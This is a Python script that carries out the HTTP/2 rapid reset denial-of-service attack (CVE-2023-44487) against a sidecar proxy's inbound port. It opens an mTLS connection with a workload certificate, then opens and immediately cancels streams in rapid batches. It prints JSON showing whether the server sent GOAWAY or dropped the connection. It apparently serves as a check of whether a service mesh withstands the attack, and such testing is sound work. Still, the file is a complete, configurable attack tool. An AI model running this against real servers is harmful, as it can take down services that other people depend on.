"""HTTP/2 rapid reset (CVE-2023-44487) against a sidecar's inbound port: open one mTLS connection with an
SVID, then open and at once cancel streams as fast as the socket takes them. Prints one JSON line: streams
sent, whether and how the server ended the connection, and how long it took."""
import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events

host, port, cert, key, ca, count, authority = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5], int(sys.argv[6]), sys.argv[7]
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.minimum_version = ssl.TLSVersion.TLSv1_3
context.load_cert_chain(cert, key)
context.load_verify_locations(ca)
context.check_hostname = False
context.set_alpn_protocols(["h2"])
sock = context.wrap_socket(socket.create_connection((host, port), timeout=10))
conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
sock.setblocking(False)

sent, goaway, closed, started = 0, None, False, time.monotonic()
stream = 1
try:
    while sent < count and goaway is None and not closed:
        for _ in range(50):
            conn.send_headers(stream, [(":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", f"/rapid/{stream}")])
            conn.reset_stream(stream)
            stream += 2
            sent += 1
        sock.setblocking(True)
        sock.sendall(conn.data_to_send())
        sock.setblocking(False)
        try:
            while True:
                data = sock.recv(65536)
                if not data:
                    closed = True
                    break
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        goaway = str(event.error_code)
        except (ssl.SSLWantReadError, BlockingIOError):
            pass
except (ConnectionError, ssl.SSLError, OSError, h2.exceptions.ProtocolError) as error:
    closed = True
print(json.dumps({"sent": sent, "goaway": goaway, "closed": closed, "seconds": round(time.monotonic() - started, 2)}))
